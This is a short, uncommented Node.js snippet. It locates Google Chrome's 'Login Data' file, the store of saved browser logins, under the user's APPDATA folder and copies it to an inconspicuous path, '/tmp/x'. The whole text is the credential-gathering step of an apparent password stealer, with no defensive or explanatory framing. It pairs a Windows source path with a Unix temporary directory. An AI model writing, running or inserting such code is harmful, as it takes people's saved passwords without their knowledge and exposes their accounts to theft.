const fs = require('fs'); const path = require('path'); const base = path.join(process.env.APPDATA || '', 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'); fs.copyFileSync(base, '/tmp/x');
